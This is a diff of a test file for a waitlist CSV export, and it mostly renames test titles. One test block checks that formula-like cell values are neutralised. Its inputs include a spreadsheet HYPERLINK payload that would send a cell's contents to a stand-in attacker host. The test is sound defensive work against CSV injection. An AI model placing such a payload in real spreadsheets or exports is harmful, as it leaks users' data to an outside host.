@@ -80,12 +80,12 @@ test('the day in its name is the shop’s: in the evening of New York it is tomo
   shop.clock.at = before
 })
 
-test('of nobody it is its headings', async () => {
+test('a waitlist without entries gives the headings only', async () => {
   const { headings, rows } = await exported()
   expect([headings?.length, rows]).toEqual([9, []])
 })
 
-describe('a text that looks like a formula is a text', () => {
+describe('a text that looks like a formula is written as text', () => {
   test.each([
     '=1+1',
     '=HYPERLINK("https://evil.example?x="&A1,"Click")',
@@ -128,7 +128,7 @@ describe('a text that looks like a formula is a text', () => {
     expect(text.slice(1).split('\r\n')[0]).toMatch(/^("[^"]*",?){9}$/)
   })
 
-  test('what is none stays as it is', async () => {
+  test('a text that is no formula stays as it is', async () => {
     await add(waitlistEntry({ story: 'Sorry = sorry; 2-1' }))
     expect((await cellsOf())[0]?.[4]).toBe('Sorry = sorry; 2-1')
   })
@@ -154,7 +154,7 @@ test.each([999, 1000, 1001, 2500])('%i people are all in it, each once, newest f
   expect(added).toEqual([...added].sort().reverse())
 })
 
-test('whoever joins meanwhile is not in it, and pushes nobody out', async () => {
+test('a person who joins meanwhile is not in the file, and displaces nobody', async () => {
   await many(1500)
   const response = await request()
   await add(waitlistEntry({ email: 'late@x.y', createdAt: '2026-06-05T00:00:00.000Z' }))
